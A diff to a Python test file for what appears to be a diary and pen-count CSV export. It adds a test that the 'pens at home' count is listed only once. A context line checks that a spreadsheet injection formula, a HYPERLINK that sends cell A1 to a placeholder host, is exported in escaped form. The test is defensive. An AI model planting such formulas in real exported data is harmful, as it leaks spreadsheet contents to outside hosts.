@@ -29,6 +29,16 @@ def test_diary_notes_in_the_csv() -> None:
     assert [row["note"] for row in rows] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "ok"]
 
 
+def test_pens_at_home_in_the_csv_only_once_counted() -> None:
+    counted = list(csv.DictReader(io.StringIO(records_csv([], [(date(2026, 3, 1), "ok")], 4))))
+    assert [(row["record"], row["note"]) for row in counted] == [
+        ("diary", "ok"),
+        ("pens_at_home", "4"),
+    ]
+    never = list(csv.DictReader(io.StringIO(records_csv([], []))))
+    assert never == []
+
+
 def test_calendar_uids_are_opaque_and_stable() -> None:
     reference = calendar_reference(123456789, "secret")
     assert reference == calendar_reference(123456789, "secret")
